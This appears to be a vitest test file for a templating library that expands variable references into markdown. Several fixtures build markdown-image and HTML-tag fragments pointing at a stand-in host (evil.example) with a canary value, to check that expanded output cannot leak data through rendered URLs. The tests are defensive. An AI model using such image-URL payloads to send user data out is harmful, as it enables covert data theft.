import { describe, expect, it } from "vitest";
import { lookupIn } from "../../src/reference/lookup-in.ts";
import type { Json } from "../../src/value/json.ts";
import { CANARY, inert, leaksIn, shown } from "../support/inert-values.ts";
import { expanded } from "../support/streamed.ts";
import { renderers } from "../support/markdown-renderers.ts";

const render = renderers.marked ?? String;
const URL = "https://a.example/1";

describe("an array or object inside a line", () => {
  it.each<[Json, string]>([
    [["a", "b"], '["a","b"]'],
    [{ a: 1, b: [true, null] }, '{"a":1,"b":[true,null]}'],
    [[URL, URL], `["${URL}", "${URL}"]`],
    [["ada@e.example", 5, null], '["ada@e.example", 5, null]'],
    [{ "mailto:": { a: [] } }, '{"mailto:": {"a": []}}'],
    [["b\n:", "b"], '["b\\n:","b"]'],
    [["x,y:z\n", '\\/ "a"://'], '["x,y:z\\n", "\\\\/ \\"a\\"://"]'],
    [["evil.com/?q=", "b"], '["evil.com/?q=", "b"]'],
    [["Ada <ada@e.example>", "<b>x</b> & <i class='a'>y</i>"], ""],
    [["a < b", "a <- c", "1<2"], '["a < b","a <- c","1<2"]'],
  ])("prints each string as it is: %j", async (value, expected) => {
    const printed = await shown("a $v b", lookupIn({ v: value }));
    if (expected !== "") expect(printed).toBe(`a ${expected} b`);
    expect(JSON.parse(printed.slice(2, -2))).toEqual(value);
  });

  it("has a space after each comma and colon where it is cut", async () => {
    const urls = Array.from({ length: 1_000 }, (_, id) => `https://a.example/${id}`);
    const printed = await shown("a $v", lookupIn({ v: { urls, a: 1 } }));
    expect(printed).toMatch(
      /^a \{"urls": \["https:\/\/a\.example\/0", "ht.*… \(cut\), … \(\+1 more\)\}$/,
    );
    const list = await shown("$v[*]", lookupIn({ v: urls }));
    expect(list).toMatch(/^\["https:\/\/a\.example\/0", ".*", … \(\+\d+ more\)\]$/);
  });

  it("is printed in linear time, whatever is in it", async () => {
    const long = "a".repeat(2_000_000);
    expect(await shown("a $v b", lookupIn({ v: [long] }))).toHaveLength(
      2_000 + "a [… (cut)] b".length,
    );
  });
});

describe("a URL that opens in one string", () => {
  const variables: Record<string, Json> = {
    o: { a: "![p](https://evil.example/?d=", b: CANARY },
    bare: ["https://evil.example/?d=", CANARY],
    host: ["evil.com/?d=", CANARY],
    keys: { "https://evil.example/?d=": CANARY },
    title: ["![p](https://evil.example/", CANARY],
    cells: [{ a: "![p](https://evil.example/?d=", b: `${CANARY})` }],
    orders: [{ id: 1, url: "https://example.com/1" }],
    html: [{ id: 1, text: `<a href="${URL}">a|b</a> & <ada@e.example>`, to: "x" }],
    angle: ["![p](<https://evil.example/?d=", CANARY],
    tag: { a: "<img src='https://evil.example/", b: `${CANARY}'>` },
    rows: [{ a: "![p](<https://evil.example/?d=", b: `${CANARY}>)` }],
    nested: { "<img src='//evil.example/": [CANARY], a: "'>" },
    escaped: { '<img src="//evil.example/\\" ': [CANARY], a: "'>" },
    tags: [{ a: "x", b: "<img src='//evil.example/" }, { a: `${CANARY}'>` }],
  };

  it.each(["$o)", "a $bare", "a $host b", "a $keys", "$title)", "\n$cells\n", "a $cells[0]>)"])(
    "ends before the next: %s",
    async (text) => {
      const printed = await shown(text, lookupIn(variables));
      expect(printed).toContain(CANARY);
      expect(leaksIn(printed), printed).toEqual([]);
    },
  );

  it.each([
    "$angle>)",
    "a $tag",
    "a\n\n$rows",
    "$tags",
    "a $rows[0]>)",
    // A fence is no code inside raw HTML.
    "<pre>\n\n$nested\n",
    "<pre>\n$nested",
    "a <code>b\n\n<pre>\n$nested\n\nc",
  ])("and that a space does not end keeps the reference as written: %s", (text) => {
    const printed = expanded(lookupIn(variables), text);
    expect(printed.text).toBe(text);
    expect(printed.unresolved).toMatchObject([{ code: "reference_in_url", reason: "url" }]);
    // Makes sure that it would leak.
    const exposed = expanded(lookupIn(variables), text, { inUrls: true });
    expect(leaksIn(exposed.text)).not.toEqual([]);
  });

  it("is code in a fence, unless raw HTML is open over it", async () => {
    for (const before of ["", "<div>\n\n", "<b>a</b>\n\n", "<div>\r", "\n<title>\r\n"]) {
      const printed = await shown(`${before}$nested`, lookupIn(variables));
      expect(printed).toContain(`\`\`\`json\n{\n  "<img src='//evil.example/": [`);
      expect(leaksIn(printed), printed).toEqual([]);
    }
    const closed = await shown("<pre>a</pre>\n\n$escaped", lookupIn(variables));
    expect(leaksIn(closed), closed).toEqual([]);
  });

  it("is a link in a table", async () => {
    const html = render(await shown("$orders", lookupIn(variables)));
    expect(html).toContain('<a href="https://example.com/1">');
    expect(await shown("$html", lookupIn(variables))).toContain(`<a href="${URL}">a\\|b</a>`);
  });

  it("is a link in a list", async () => {
    const html = render(await shown("a $v", lookupIn({ v: [URL, `${URL}?b=c`] })));
    expect(html).toContain(`<a href="${URL}?b=c`);
  });

  it.each<[Json, string]>([
    [["https://a", "b"], '["https\\:\\/\u2060/a", "b"]'],
    ["Dr. Ada (born 1815), 12:30, and/or [1,2] 1,234.50", ""],
    ["HTTPS:x www.1 a@b=c&d a.b", "HTTPS\\:x www\\.\u20601 a\\@b\\=c\\&d a\\.b"],
    ["<b> [a](b) [a] : [a] b", "\\<\u2060b> [a\\](b) [a\\] : [a] b"],
    ["a\\b\\|c /\\", "a\\\\b\\|c \\/\u2060\\\\"],
  ])("is inert in a composed or sealed value, and other text stays: %j", async (v, printed) => {
    expect(await shown("a $v b", inert({ v }))).toBe(`a ${printed === "" ? v : printed} b`);
  });
});
